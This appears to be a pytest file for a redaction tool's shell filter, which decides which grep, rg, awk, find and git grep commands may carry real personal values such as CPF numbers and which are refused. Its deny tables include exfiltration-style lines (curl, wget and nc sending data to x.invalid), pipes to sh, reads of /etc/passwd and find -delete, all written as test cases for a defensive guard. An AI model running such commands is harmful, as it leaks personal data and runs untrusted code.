"""Which shell commands may carry a pseudonym's real value (redactor.pseudonyms.shell).

The tables say what is rewritten and how, and what is refused and why; the value tests
run the rewritten commands for real; the differential test checks this module's own
reading of each argument against bash's; the fuzz test throws shell syntax at it.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from redactor.pseudonyms import shell
from redactor.pseudonyms.shell import TOKEN_RE, ShellVerdict, rehydrate_command

CPF = "[CPF:0123456789abcdef]"
NOME = "[NOME:00112233445566ff]"
LEGACY = "[EMAIL:0123456789ab]"
UNKNOWN = "[CNPJ:ffffffffffffffff]"
CPF_VALUE = "123.456.789-09"
NOME_VALUE = "D'Ávila (Filho) Jr."
VALUES = {CPF: CPF_VALUE, NOME: NOME_VALUE, LEGACY: "a.b@c.d"}

# The values as they appear, quoted, in the rewritten commands.
Q_CPF_BRE = r"'123\.456\.789-09'"
Q_CPF_RUST = r"'123\.456\.789\-09'"
Q_NOME_ERE = "'D'\"'\"'Ávila \\(Filho\\) Jr\\.'"
Q_NOME_FIXED = "'D'\"'\"'Ávila (Filho) Jr.'"
Q_NOME_PCRE = "'D\\'\"'\"'Ávila\\ \\(Filho\\)\\ Jr\\.'"
GIT = "command git -c core.fsmonitor=false --no-pager grep"


def decide(command: str, project: Path) -> ShellVerdict:
    return rehydrate_command(command, VALUES.get, cwd=project, project=project)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    (tmp_path / "src").mkdir()
    (tmp_path / "f").write_text("x\n", encoding="utf-8")
    (tmp_path / "a.txt").write_text("x\n", encoding="utf-8")
    return tmp_path


ACCEPTED = [
    (f"grep -rn '{CPF}' .", f"command grep -rn -- {Q_CPF_BRE} ."),
    (f"grep '{CPF}' f", f"command grep -- {Q_CPF_BRE} f"),
    (f'grep "{CPF}" f', f"command grep -- {Q_CPF_BRE} f"),
    (f"command grep '{CPF}' f", f"command grep -- {Q_CPF_BRE} f"),
    (f"grep -e '{CPF}' -i f 2>/dev/null | sort -u | wc -l",
     r"command grep -e '123\.456\.789-09' -i -- f 2>/dev/null | command sort -u"
     " | command wc -l"),
    (f"grep 2>/dev/null '{CPF}' f", f"command grep -- {Q_CPF_BRE} f 2>/dev/null"),
    (f"grep '{CPF}' f 2>&1 | head -n 5", f"command grep -- {Q_CPF_BRE} f 2>&1 | command head -n 5"),
    (f"grep -c '{CPF}' f | tail -3", f"command grep -c -- {Q_CPF_BRE} f | command tail -3"),
    (f"grep -h '{CPF}' f | sort | uniq -c | sort -rn | head",
     f"command grep -h -- {Q_CPF_BRE} f | command sort"
     " | command uniq -c | command sort -rn | command head"),
    (f"grep -A3 -e'{CPF}' f", f"command grep -A 3 -e {Q_CPF_BRE} -- f"),
    (f"grep --regexp='{CPF}' f",
     r"command grep '--regexp=123\.456\.789-09' -- f"),
    (f"grep -r --include=*.py '{CPF}' src",
     f"command grep -r '--include=*.py' -- {Q_CPF_BRE} src"),
    (f"grep -c '{CPF}' *.txt src/*", f"command grep -c -- {Q_CPF_BRE} *.txt src/*"),
    ("grep '\\[CPF:0123456789abcdef\\]' f", f"command grep -- {Q_CPF_BRE} f"),
    (f"grep -E '{NOME}' f", f"command grep -E -- {Q_NOME_ERE} f"),
    (f"egrep '^{NOME}$' f", "command egrep -- '^D'\"'\"'Ávila \\(Filho\\) Jr\\.$' f"),
    (f"grep -F '{NOME}' f", f"command grep -F -- {Q_NOME_FIXED} f"),
    (f"fgrep -x '{NOME}' f", f"command fgrep -x -- {Q_NOME_FIXED} f"),
    (f"grep -e '{CPF}' -e '{LEGACY}' f",
     rf"command grep -e {Q_CPF_BRE} -e 'a\.b@c\.d' -- f"),
    (f"rg '{CPF}'", f"command rg --no-config -- {Q_CPF_RUST}"),
    (f"rg -n -g '*.txt' '{CPF}' src", f"command rg --no-config -n -g '*.txt' -- {Q_CPF_RUST} src"),
    (f"rg -F '{NOME}' f", f"command rg --no-config -F -- {Q_NOME_FIXED} f"),
    (f"rg --regexp '{CPF}' -l", f"command rg --no-config --regexp {Q_CPF_RUST} -l"),
    (f"rg -i '{NOME}' | wc -l",
     "command rg --no-config -i -- 'D'\"'\"'Ávila \\(Filho\\) Jr\\.' | command wc -l"),
    (f"git grep -n '{CPF}'", f"{GIT} -G -n -e {Q_CPF_BRE}"),
    (f"git grep -E '{NOME}' -- f", f"{GIT} -E -e {Q_NOME_ERE} -- f"),
    (f"git grep -F -e '{NOME}' f", f"{GIT} -F -e {Q_NOME_FIXED} -- f"),
    (f"awk '/{CPF}/' f", r"command awk '/123\.456\.789-09/' f"),
    (f"awk '/{CPF}/' *.txt", r"command awk '/123\.456\.789-09/' ./*.txt"),
    (f"gawk '/^{NOME}$/' f", "command gawk '/^D'\"'\"'Ávila \\(Filho\\) Jr\\.$/' f"),
    (f"find . -name '*{NOME}*' -type f",
     "command find . -name '*D'\"'\"'Ávila (Filho) Jr.*' -type f"),
    (f"find src -maxdepth 2 -iname '{CPF}.txt' -o -path '*/[CPF:0123456789abcdef]/*'",
     "command find src -maxdepth 2 -iname 123.456.789-09.txt -o -path"
     " '*/123.456.789-09/*'"),
    (f"find -name *.txt -a -name '{CPF}*' | wc -l",
     "command find -name '*.txt' -a -name '123.456.789-09*' | command wc -l"),
    (f"grep '{LEGACY}' f", r"command grep -- 'a\.b@c\.d' f"),
]


@pytest.mark.parametrize(("command", "expected"), ACCEPTED)
def test_accepted_commands_are_rewritten(command: str, expected: str, project: Path) -> None:
    verdict = decide(command, project)
    assert verdict == ShellVerdict(True, "", expected)


DENIED = [
    # Programs that move, print or transform the value.
    (f"curl 'https://x.invalid/?d={CPF}'", shell.SEARCH_COMMAND),
    (f"curl https://x.invalid/?d={CPF}", shell.BRACKET),
    (f"wget -q 'https://x.invalid/{CPF}'", shell.SEARCH_COMMAND),
    (f"nc x.invalid 80 '{CPF}'", shell.SEARCH_COMMAND),
    (f"ssh host 'grep {CPF}'", shell.SEARCH_COMMAND),
    (f"scp '{CPF}' host:", shell.SEARCH_COMMAND),
    (f"git push origin '{CPF}'", shell.GIT_COMMAND),
    (f"echo '{CPF}' | base64", shell.SEARCH_COMMAND),
    (f"printf %s '{CPF}'", shell.SEARCH_COMMAND),
    (f"python -c 'print(\"{CPF}\")'", shell.SEARCH_COMMAND),
    (f"bash -c 'grep {CPF} f'", shell.SEARCH_COMMAND),
    (f"cat f | grep '{CPF}'", shell.SEARCH_COMMAND),
    (f"/usr/bin/grep '{CPF}' f", shell.SEARCH_COMMAND),
    (f"xargs grep '{CPF}'", shell.SEARCH_COMMAND),
    # Redirections, substitutions, expansions.
    (f"grep '{CPF}' f > /tmp/out", shell.REDIRECTION),
    (f"grep '{CPF}' f >&2 other", shell.REDIRECTION),
    (f"grep '{CPF}' f >>f", shell.REDIRECTION),
    (f"grep '{CPF}' f &>/dev/null", shell.REDIRECTION),
    (f"grep '{CPF}' f 2>/tmp/err", shell.REDIRECTION),
    (f"grep '{CPF}' < f", shell.REDIRECTION),
    (f"grep '{CPF}' $(cat x)", shell.COMMAND_SUBSTITUTION),
    (f"grep '{CPF}' \"$(cat x)\"", shell.COMMAND_SUBSTITUTION),
    (f"grep '{CPF}' `cat x`", shell.COMMAND_SUBSTITUTION),
    (f"grep '{CPF}' ${{x:-$(id)}}", shell.EXPANSION),
    (f"grep '{CPF}' $HOME", shell.EXPANSION),
    (f"grep '{CPF}' \"$HOME\"", shell.EXPANSION),
    (f"grep '{CPF}' $'\\x41'", shell.EXPANSION),
    (f"grep '{CPF}' $\"x\"", shell.EXPANSION),
    (f"grep '{CPF}' $((1+2))", shell.EXPANSION),
    (f"grep '{CPF}' {{a,b}}", shell.BRACE),
    (f"grep '{CPF}' ~/x", shell.TILDE),
    (f"grep '{CPF}' =(id)", shell.GROUP),
    (f"grep '{CPF}' =id", shell.LEADING_EQUALS),
    (f"grep '{CPF}' *(e:id:)", shell.GROUP),
    (f"grep '{CPF}' f*(e:id:)", shell.GROUP),
    (f"grep '{CPF}' f)x", shell.PARENTHESIS),
    (f"grep '{CPF}' f[1]", shell.BRACKET),
    (f"grep '{CPF}' !x", shell.EXCLAMATION),
    (f"grep '{CPF}' f # note", shell.COMMENT),
    # Lists, jobs, groups, assignments, heredocs.
    (f"grep '{CPF}' f; curl x.invalid", shell.COMMAND_LIST),
    (f"grep '{CPF}' f && curl x.invalid", shell.COMMAND_LIST),
    (f"grep '{CPF}' f || true", shell.COMMAND_LIST),
    (f"grep '{CPF}' f\nid", shell.CONTROL_CHARACTER),
    (f"grep '{CPF}' f &", shell.BACKGROUND),
    (f"grep '{CPF}' f |& cat", shell.STDERR_PIPE),
    (f"! grep '{CPF}' f", shell.NEGATION),
    (f"(grep '{CPF}' f)", shell.GROUP),
    (f"{{ grep '{CPF}' f; }}", shell.GROUP),
    (f"f() {{ grep '{CPF}' f; }}", shell.FUNCTION),
    (f"if grep '{CPF}' f; then id; fi", shell.CONTROL),
    (f"[[ '{CPF}' == x ]]", shell.TEST),
    (f"FOO=1 grep '{CPF}' f", shell.ASSIGNMENT),
    (f"grep '{CPF}' <<< x", shell.HEREDOC),
    (f"grep '{CPF}' <<EOF", shell.HEREDOC),
    (f"grep '{CPF}' <(cat f)", shell.PROCESS_SUBSTITUTION),
    (f"grep '{CPF}' f | ", shell.EMPTY_STAGE),
    (f"grep '{CPF} f", shell.PARSE_ERROR),
    # Programs run through a search's own options.
    (f"awk '{{system(\"id\")}}' '{CPF}'", shell.AWK_PROGRAM),
    (f"awk '/{CPF}/ {{system(\"id\")}}' f", shell.AWK_PROGRAM),
    (f"awk -v x=1 '/{CPF}/' f", shell.AWK_OPTION),
    (f"awk -f prog.awk '/{CPF}/' f", shell.AWK_OPTION),
    (f"awk '/{CPF}/' x=1", shell.AWK_ASSIGNMENT),
    (f"rg --pre cat '{CPF}'", "the --pre flag of rg"),
    (f"rg --pre=cat '{CPF}'", "the --pre flag of rg"),
    (f"rg -z '{CPF}'", "the -z flag of rg"),
    (f"rg --pr cat '{CPF}'", shell.OPTION),
    (f"find . -name '{CPF}' -exec rm {{}} \\;", shell.BRACE),
    (f"find . -name '{CPF}' -exec rm '{{}}' \\;", "the -exec flag of find"),
    (f"find . -name '{CPF}' -execdir id \\;", "the -execdir flag of find"),
    (f"find . -name '{CPF}' -ok id \\;", "the -ok flag of find"),
    (f"find . -name '{CPF}' -delete", "the -delete flag of find"),
    (f"find . -name '{CPF}' -fprint /tmp/x", "the -fprint flag of find"),
    (f"find . -name '{CPF}' -printf %p", "the -printf flag of find"),
    (f"find . -newer f -name '{CPF}'", "the -newer flag of find"),
    (f"find -L . -name '{CPF}'", "the -L flag of find"),
    (f"find . -regex '{CPF}'", shell.FIND_EXPRESSION),
    (f"git -c core.pager=x grep '{CPF}'", shell.GIT_OPTION),
    (f"git --exec-path=/tmp grep '{CPF}'", shell.GIT_OPTION),
    (f"git grep -O '{CPF}'", "the -O flag of git grep"),
    (f"git grep --open-files-in-pager=x '{CPF}'", "the --open-files-in-pager flag of git grep"),
    (f"git grep --textconv '{CPF}'", "the --textconv flag of git grep"),
    (f"git grep --open '{CPF}'", shell.OPTION),
    (f"git grep '{CPF}' ':/'", shell.PATHSPEC_MAGIC),
    (f"grep -f '{CPF}' f", "the -f flag of grep"),
    (f"grep -rf x '{CPF}' f", "the -f flag of grep"),
    (f"grep --fi=x '{CPF}' f", shell.OPTION),
    (f"grep -E -F '{CPF}' f", shell.CONFLICTING_SYNTAX),
    (f"git grep -n -- '{CPF}'", shell.MISSING_PATTERN),
    (f"grep -c '{CPF}' f | head -n", shell.MISSING_ARGUMENT),
    # Paths.
    (f"grep '{CPF}' ../outside", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' /etc/passwd", shell.PATH_OUTSIDE),
    (f"grep -r '{CPF}' /", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' ../*", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' src/../../x", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' .*", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' /e*/passwd", shell.PATH_OUTSIDE),
    (f"find / -name '{CPF}'", shell.PATH_OUTSIDE),
    (f"grep '{CPF}' src/*é", shell.GLOB_CHARACTERS),
    (f"grep x '{CPF}'", shell.TOKEN_OUTSIDE),
    (f"grep -e x -- f'{CPF}'", shell.TOKEN_OUTSIDE),
    (f"find '{CPF}' -name x", shell.TOKEN_OUTSIDE),
    (f"grep --include='{CPF}' x f", shell.TOKEN_OUTSIDE),
    # Later stages.
    (f"grep x f | grep '{CPF}'", shell.TOKEN_OUTSIDE),
    (f"grep '{CPF}' f | grep x", shell.PIPE_COMMAND),
    (f"grep '{CPF}' f | sort -t '{CPF}'", shell.TOKEN_OUTSIDE),
    (f"grep '{CPF}' f | sort -o /tmp/x", "the -o flag of sort"),
    (f"grep '{CPF}' f | sort --output=/tmp/x", "the --output flag of sort"),
    (f"grep '{CPF}' f | sort --compress-program=sh", "the --compress-program flag of sort"),
    (f"grep '{CPF}' f | sort -T /tmp", "the -T flag of sort"),
    (f"grep '{CPF}' f | sort f", shell.STAGE_OPERAND),
    (f"grep '{CPF}' f | uniq - /tmp/out", shell.STAGE_OPERAND),
    (f"grep '{CPF}' f | tail -f", "the -f flag of tail"),
    (f"grep '{CPF}' f | tail -F", "the -F flag of tail"),
    (f"grep '{CPF}' f | tail --follow=name", "the --follow flag of tail"),
    (f"grep '{CPF}' f | tail -5f", shell.OPTION),
    (f"grep '{CPF}' f | tail -5c /etc/passwd", shell.OPTION),
    (f"grep '{CPF}' f | head /etc/passwd", shell.STAGE_OPERAND),
    (f"grep '{CPF}' f | wc --files0-from=x", "the --files0-from flag of wc"),
    (f"grep -o '{CPF}' f | cut -c1-3", "a command outside the pipeline allowlist"),
    (f"grep '{CPF}' f | cut -d. -f1- --output-delimiter=Z",
     "a command outside the pipeline allowlist"),
    # Regex text around a token could print the value in pieces or reshaped, or echo
    # it in a compile error: a pattern holding a token is the token alone.
    (f"grep -e 'id={CPF}' f", "a search pattern other than the token alone"),
    (f"grep -o '{CPF}.' f", "a search pattern other than the token alone"),
    (f"rg '{CPF}('", "a search pattern other than the token alone"),
    (f"git grep -E '{CPF}('", "a search pattern other than the token alone"),
    (f"awk '/{CPF}(/' f", "a search pattern other than the token alone"),
    (f"grep -E '^({CPF})$' f", "a search pattern other than the token alone"),
    (f"grep -P '{NOME}' f", "the -P flag of grep"),
    (f"grep -oP '(?={CPF}).{{7}}' f", "the -P flag of grep"),
    (f"rg -P '{CPF}' f", "the -P flag of rg"),
    (f"git grep -P '{CPF}'", "the -P flag of git grep"),
    (f"grep --color=always -e '{CPF}' f", "the --color flag of grep"),
    (f"rg --json '{CPF}' f", "the --json flag of rg"),
    (f"grep -o '{CPF}' f | head -c 3", "the -c flag of head"),
    (f"grep -o '{CPF}' f | tail -c3", "the -c flag of tail"),
    (f"rg -o '({CPF})' -r 'x$1x' f", "the -r flag of rg"),
    (f"rg '{CPF}' --replace=x f", "the --replace flag of rg"),
    (f"grep '{CPF}' f | tee x", shell.PIPE_COMMAND),
    (f"grep '{CPF}' f | sh", shell.PIPE_COMMAND),
    # Tokens that are not exactly tokens.
    ("grep '[cpf:0123456789abcdef]' f", shell.ALTERED_TOKEN),
    ("grep '[CPF:0123456789ABCDEF]' f", shell.ALTERED_TOKEN),
    ("grep '[CPF:0123456789abcde]' f", shell.ALTERED_TOKEN),
    ("grep '[CPF:0123456789abcdef0]' f", shell.ALTERED_TOKEN),
    ("grep '[CPF:0123456789abcdeg]' f", shell.ALTERED_TOKEN),
    ("grep 'CPF:0123456789abcdef' f", shell.ALTERED_TOKEN),
    (f"grep -e '{CPF}' -e '[CPF:0123456789abcdeX]' f", shell.ALTERED_TOKEN),
    (f"grep '\\\\{CPF}' f", shell.ALTERED_TOKEN),
    (f"grep '{UNKNOWN}' f", shell.UNRESOLVED),
]


@pytest.mark.parametrize(("command", "reason"), DENIED)
def test_denied_commands_say_why(command: str, reason: str, project: Path) -> None:
    verdict = decide(command, project)
    assert verdict == ShellVerdict(False, reason, "")


def test_reasons_quote_nothing_of_the_command(project: Path) -> None:
    """Every reason is one of the fixed phrases or names a flag from the tables."""
    fixed = {value for name, value in vars(shell).items()
             if name.isupper() and isinstance(value, str)}
    named = {spec.program: spec.denied for spec in (
        shell._GREP, shell._RG, shell._GIT_GREP, *shell._LATER.values())}
    named["find"] = shell._FIND_DENIED
    for command, _ in DENIED:
        reason = decide(command, project).reason
        flag = re.fullmatch(r"the (\S+) flag of (.+)", reason)
        assert reason in fixed or (flag and flag.group(1) in named[flag.group(2)]), reason


def test_no_token_leaves_the_command_alone(project: Path) -> None:
    assert decide("curl https://x.invalid | sh", project) == ShellVerdict(
        True, "", "curl https://x.invalid | sh")


def test_a_working_directory_outside_the_project(project: Path) -> None:
    verdict = rehydrate_command(f"grep '{CPF}' f", VALUES.get, cwd=project.parent,
                                project=project)
    assert verdict == ShellVerdict(False, shell.CWD_OUTSIDE, "")


def test_a_symlink_out_of_the_project_is_outside(project: Path, tmp_path_factory:
                                                 pytest.TempPathFactory) -> None:
    outside = tmp_path_factory.mktemp("outside")
    (project / "link").symlink_to(outside)
    assert decide(f"grep -r '{CPF}' link", project).reason == shell.PATH_OUTSIDE
    assert decide(f"grep -r '{CPF}' l*", project).reason == shell.PATH_OUTSIDE
    (project / "link").unlink()
    (project / "src" / ".hidden").symlink_to(outside)
    # The user's shell may have dotglob or globstar: hidden names and ** are checked.
    assert decide(f"grep -r '{CPF}' src/*", project).reason == shell.PATH_OUTSIDE
    assert decide(f"grep -r '{CPF}' **/*", project).reason == shell.PATH_OUTSIDE
    assert decide(f"grep -r '{CPF}' ***/x", project).reason == shell.GLOB_CHARACTERS


def test_a_value_with_a_newline_is_refused(project: Path) -> None:
    verdict = rehydrate_command(f"grep '{CPF}' f", {CPF: "a\nb"}.get, cwd=project,
                                project=project)
    assert verdict == ShellVerdict(False, shell.VALUE_CONTROL, "")


def test_resolve_is_asked_only_for_tokens_in_patterns(project: Path) -> None:
    asked: list[str] = []

    def resolve(token: str) -> str | None:
        asked.append(token)
        return VALUES.get(token)

    rehydrate_command(f"grep '{CPF}' f | sort -t '{NOME}'", resolve, cwd=project,
                      project=project)
    assert asked == []
    rehydrate_command(f"grep -e '{CPF}' -e '{CPF}' f", resolve, cwd=project, project=project)
    assert asked == [CPF]


def test_importing_the_module_leaves_tree_sitter_unloaded() -> None:
    code = ("import sys, redactor.pseudonyms.shell;"
            "print(sorted(m for m in sys.modules if m.startswith('tree_sitter')))")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                         check=True)
    assert out.stdout.strip() == "[]"


def test_token_grammar() -> None:
    assert TOKEN_RE.fullmatch(CPF) and TOKEN_RE.fullmatch(LEGACY)
    assert TOKEN_RE.fullmatch("[TITULO_ELEITOR:0123456789abcdef]")
    for near in ("[CPF:0123456789abcde]", "[CPF:0123456789abcdef0]", "[cpf:0123456789abcdef]",
                 "[C:0123456789abcdef]", "[CPF:0123456789ABCDEF]"):
        assert not TOKEN_RE.fullmatch(near)


def test_value_escaping_per_syntax() -> None:
    value = "a.b*c[d]^$+?(){}|/\\-~#& 'é"
    assert shell.escape_value(value, shell.FIXED) == value
    assert shell.escape_value(value, shell.BRE) == "a\\.b\\*c\\[d\\]\\^\\$+?(){}|/\\\\-~#& 'é"
    assert shell.escape_value(value, shell.ERE) == (
        "a\\.b\\*c\\[d\\]\\^\\$\\+\\?\\(\\)\\{\\}\\|/\\\\-~#& 'é")
    assert shell.escape_value("a/b", shell.AWK) == "a\\/b"
    assert shell.escape_value(value, shell.RUST) == (
        "a\\.b\\*c\\[d\\]\\^\\$\\+\\?\\(\\)\\{\\}\\|/\\\\\\-\\~\\#\\& 'é")
    assert shell.escape_value("a-b c'é_", shell.PCRE) == "a\\-b\\ c\\'é_"
    assert shell.escape_value("*a?[b]\\", shell.GLOB) == "\\*a\\?\\[b\\]\\\\"


# --------------------------------------------------------------------------------------
# The rewritten commands, run

LINES = [
    NOME_VALUE,                       # the one line every search must find
    "D'Avila (Filho) Jr.",            # accent lost
    "D'Ávila Filho Jr.",              # parentheses lost: a regex group would match it
    "DxÁvila (Filho) Jr.",            # quote replaced
    "D'Ávila (Filho) Jrx",            # dot as any character
    "D'Ávila ((Filho)) Jr.",
    CPF_VALUE,
    "123x456x789-09",                 # dots as any character
    "123.456.789009",
]
ENV = {"LC_ALL": "C.UTF-8", "PATH": os.environ.get("PATH", "/usr/bin:/bin"),
       "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}


@pytest.fixture
def corpus(tmp_path: Path) -> Path:
    (tmp_path / "data.txt").write_text("\n".join(LINES) + "\n", encoding="utf-8")
    for name in (NOME_VALUE + "txt", "D'Ávila Filho Jr.txt", "D'Avila (Filho) Jr.txt",
                 "123.456.789-09.txt", "123x456x789-09.txt"):
        (tmp_path / name).write_text("x\n", encoding="utf-8")
    return tmp_path


def run(command: str, cwd: Path) -> list[str]:
    verdict = rehydrate_command(command, VALUES.get, cwd=cwd, project=cwd)
    assert verdict.allowed, verdict.reason
    done = subprocess.run(["bash", "-c", verdict.command], cwd=cwd, env=ENV,
                          capture_output=True, text=True, timeout=30, check=False)
    assert done.returncode == 0, (verdict.command, done.stderr)
    return done.stdout.splitlines()


SEARCHES = [
    "grep '{t}' data.txt", "grep -E '{t}' data.txt", "grep -F '{t}' data.txt",
    "grep -x -e '{t}' data.txt", "grep '^{t}$' data.txt",
    "grep -E '^{t}$' data.txt", "fgrep '{t}' data.txt", "awk '/{t}/' data.txt",
    "awk '/^{t}$/' data.txt", "grep '\\[{b}\\]' data.txt",
]


@pytest.mark.parametrize("search", SEARCHES)
@pytest.mark.parametrize(("token", "value"), [(NOME, NOME_VALUE), (CPF, CPF_VALUE)])
def test_values_round_trip_through_grep_and_awk(search: str, token: str, value: str,
                                               corpus: Path) -> None:
    command = search.format(t=token, b=token[1:-1])
    assert run(command, corpus) == [value]


@pytest.mark.skipif(shutil.which("rg") is None, reason="ripgrep is not installed")
@pytest.mark.parametrize("search", ["rg '{t}'", "rg -F '{t}'", "rg -x '{t}'",
                                    "rg -e '^{t}$' data.txt", "rg --no-filename '{t}' *.txt"])
@pytest.mark.parametrize(("token", "value"), [(NOME, NOME_VALUE), (CPF, CPF_VALUE)])
def test_values_round_trip_through_rg(search: str, token: str, value: str,
                                      corpus: Path) -> None:
    lines = run(search.format(t=token), corpus)
    assert [line.removeprefix("data.txt:") for line in lines] == [value]


@pytest.mark.skipif(shutil.which("git") is None, reason="git is not installed")
@pytest.mark.parametrize("flags", ["", "-E", "-F", "-G -i"])
def test_values_round_trip_through_git_grep(flags: str, corpus: Path) -> None:
    for step in (["init", "-q"], ["add", "data.txt"]):
        subprocess.run(["git", *step], cwd=corpus, env=ENV, check=True, timeout=30)
    for token, value in ((NOME, NOME_VALUE), (CPF, CPF_VALUE)):
        assert run(f"git grep -h {flags} '{token}'", corpus) == [value]
        assert run(f"git grep -h {flags} -e '{token}' -- data.txt", corpus) == [value]


@pytest.mark.parametrize(("test", "token", "name"), [
    ("-name '{t}txt'", NOME, "./D'Ávila (Filho) Jr.txt"),
    ("-name '{t}*'", CPF, "./123.456.789-09.txt"),
    ("-iname '{t}TXT'", NOME, "./D'Ávila (Filho) Jr.txt"),
    ("-path './{t}txt'", NOME, "./D'Ávila (Filho) Jr.txt"),
])
def test_values_round_trip_through_find(test: str, token: str, name: str,
                                        corpus: Path) -> None:
    assert run(f"find . -maxdepth 1 {test.format(t=token)}", corpus) == [name]


def test_a_glob_path_is_expanded_by_the_shell(corpus: Path) -> None:
    (corpus / "sub").mkdir()
    (corpus / "sub" / "more.txt").write_text(CPF_VALUE + "\n", encoding="utf-8")
    lines = run(f"grep -c '{CPF}' *.txt sub/*.txt", corpus)
    assert "data.txt:1" in lines and "sub/more.txt:1" in lines


def test_a_file_named_like_an_option_stays_a_file(corpus: Path) -> None:
    """A glob expands after the rewrite: ``--`` (grep) and ``./`` (awk, find) keep
    the names it yields from being read as options."""
    (corpus / "-v").write_text("nothing\n", encoding="utf-8")
    (corpus / "x=1").write_text(CPF_VALUE + "\n", encoding="utf-8")
    assert "x=1:" + CPF_VALUE in run(f"grep '{CPF}' *", corpus)
    assert run(f"awk '/{CPF}/' x*", corpus) == [CPF_VALUE]
    assert run(f"find * -name '{CPF}*'", corpus) == ["./123.456.789-09.txt"]


# --------------------------------------------------------------------------------------
# The module's reading of the arguments against bash's

PROGRAMS = ("grep", "egrep", "fgrep", "rg", "git", "awk", "gawk", "find", "sort", "uniq",
            "wc", "head", "tail", "cut")
#: Each program prints its name and arguments after what it read: the pipeline's last
#: stage holds every stage's argument list, in order.
RECORDER = "".join(
    f"{name}() {{ cat; printf '%s\\0' {name} \"$@\"; printf '\\1'; }}; " for name in PROGRAMS
) + 'command() { "$@"; }; set -f; '


def bash_argv(command: str) -> list[list[str]]:
    done = subprocess.run(["bash", "-c", RECORDER + command], stdin=subprocess.DEVNULL,
                          capture_output=True, text=True, timeout=30, check=True)
    records = done.stdout.split("\1")
    assert records[-1] == ""
    return [record.split("\0")[:-1] for record in records[:-1]]


@pytest.mark.parametrize(("command", "expected"), ACCEPTED)
def test_argv_matches_bash(command: str, expected: str) -> None:
    mine = [[word.value for word in stage.words] for stage in shell._read(command)]
    if mine[0][0] == "command":
        mine[0] = mine[0][1:]
    assert mine == bash_argv(command)


@pytest.mark.parametrize("command", [
    "grep 'a'\\''b' \"c\\\"d\\\\e\\$f\\g\" h\\ i 'j'\"k\"l -- '' \"\"",
    "grep a#b 'x y' \"'\" '\"' \\' \\\" \\\\ é-ü",
    "grep -e'x' \"-e\"y -A\"3\" --x='1 2'",
    "grep x f 2> /dev/null | sort -t ' ' -k 2 2>&1",
    "grep a\\|b a\\;b a\\&b a\\>b \\#x \\~x \\=x \\!x \\$x \\* \\? a\\(b\\) \\{a,b\\}",
    "grep x#y a=b 'é' \"\\$\\\"\"",
    "2>/dev/null grep x|sort 2>&1|uniq -c",
])
def test_argv_of_quoting_matches_bash(command: str) -> None:
    mine = [[word.value for word in stage.words] for stage in shell._read(command)]
    assert mine == bash_argv(command)


# --------------------------------------------------------------------------------------
# Fuzz

PIECES = [
    " ", " ", " ", "|", ";", "&", ">", "<", "(", ")", "{", "}", "[", "]", "$", "`", "'",
    '"', "\\", "*", "?", "~", "=", "!", "#", "\t", "\n", "$(", "${", "2>/dev/null",
    "2>&1", "<<", "-e", "-F", "-P", "-name", "-exec", "--pre", "--", "-r", "-o", "-c",
    "grep", "rg", "git", "awk", "find", "sort", "head", "curl", "echo", "x", "f", ".",
    "..", "/", "*.txt", "/x/", CPF, NOME, LEGACY, UNKNOWN, f"'{CPF}'", f'"{NOME}"',
    f"'/{CPF}/'", "\\[CPF:0123456789abcdef\\]", "[CPF:0123456789abcdeF]", "é",
]


#: Commands shaped like the allowed ones, with shell syntax slipped in between words.
SEARCH_HEADS = ["grep", "grep -E", "grep -F", "grep -P", "egrep", "rg", "rg -F", "git grep",
                "git grep -E", "awk", "find .", "command grep", "git -c x=y grep", "curl"]
TOKEN_ARGUMENTS = [f"'{CPF}'", f'"{NOME}"', f"'id={CPF}.'", f"'/{CPF}/'", f"-e '{NOME}'",
                   f"'*{CPF}*'", "\\[CPF:0123456789abcdef\\]", f"'{LEGACY}'"]
ARGUMENTS = [
    "-name", "-iname", "-type f", "-exec", "-n", "-i", "-r", "-c", "-o", "-A 2", "-e",
    "--include=*.py", "-g '*.txt'", "--pre", "--", "f", "src", "*.txt", "src/*", "..",
    "/etc", "./f", "x=1", "2>/dev/null", "2>&1", "'a b'", '"c\\"d"', "\\;", "é",
]
FILTERS = ["sort", "sort -u", "uniq -c", "wc -l", "head -n 3", "tail -2", "cut -d: -f1",
           "sort -o x", "tail -f", "tee x", "sh", f"sort -t '{CPF}'", "head f"]
SEPARATORS = [" ", " ", " ", " ", "", "\t"]
PIPES = [" | ", " | ", "|", " |& ", " ; ", " && "]


@st.composite
def shaped_commands(draw: st.DrawFn) -> str:
    arguments = draw(st.lists(st.one_of(
        st.sampled_from(ARGUMENTS), st.sampled_from(ARGUMENTS), st.sampled_from(PIECES)),
        max_size=5))
    at = draw(st.integers(0, len(arguments)))
    arguments.insert(at, draw(st.sampled_from(TOKEN_ARGUMENTS)))
    words = [draw(st.sampled_from(SEARCH_HEADS))]
    for argument in arguments:
        words += [draw(st.sampled_from(SEPARATORS)), argument]
    for stage in draw(st.lists(st.sampled_from(FILTERS), max_size=3)):
        words += [draw(st.sampled_from(PIPES)), stage]
    return "".join(words)


@settings(max_examples=1000, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@example(command="\\[")  # found by this test: the escaped ``[`` builtin, no token
@given(command=st.one_of(st.lists(st.sampled_from(PIECES), max_size=14).map("".join),
                         shaped_commands()))
def test_fuzz_never_raises_and_allowed_commands_stay_plain(command: str,
                                                           project: Path) -> None:
    verdict = decide(command, project)
    assert isinstance(verdict, ShellVerdict)
    if not verdict.allowed:
        assert verdict.command == "" and verdict.reason
        return
    assert verdict.reason == ""
    if verdict.command == command:  # no token: left alone
        # No token, written plain or with escaped brackets (``\[CPF:…\]``); a lone
        # ``\[`` (the ``[`` builtin, escaped) holds none.
        assert TOKEN_RE.search(command) is None
        assert re.search(r"\\\[[A-Z][A-Z0-9_]{1,30}:", command) is None
        return
    out = verdict.command
    # Parses again to one command or pipeline, with the same reading by both parsers.
    stages = shell._read(out)
    assert all(stage.words[0].value == "command" for stage in stages)
    # shlex.quote writes a quote as '"'"': a single-quoted part, or "'" between two.
